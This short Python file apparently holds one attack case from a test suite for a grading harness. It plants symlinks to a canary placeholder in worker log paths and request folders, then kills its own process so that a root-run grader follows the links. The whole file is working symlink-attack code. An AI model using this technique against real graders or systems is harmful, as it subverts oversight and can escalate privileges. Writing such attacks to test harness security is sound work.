# attacks: describe
import os


def describe(t):
    """Plant links where the grader (root) might open, create or read a path by name, then
    die so that a new worker is started: the next workers' logs and request folders point
    at __CANARY__, and this worker's own log at it too (bounded: a few links, one exit)."""
    home = os.environ.get("HOME", ".")
    scratch = os.path.dirname(home)
    for number in range(1, 8):
        for folder in (f"{scratch}/worker{number}", f"{home}/exchange"):
            try:
                os.makedirs(folder, exist_ok=True)
                os.symlink("__CANARY__", f"{folder}/worker.log")
            except OSError:
                pass
        try:
            os.symlink(os.path.dirname("__CANARY__"), f"{home}/exchange/r{number}")
        except OSError:
            pass
    for own in (f"{home}/worker.log",):
        try:
            os.replace(own, own + ".old")
            os.symlink("__CANARY__", own)
        except OSError:
            pass
    os._exit(1)
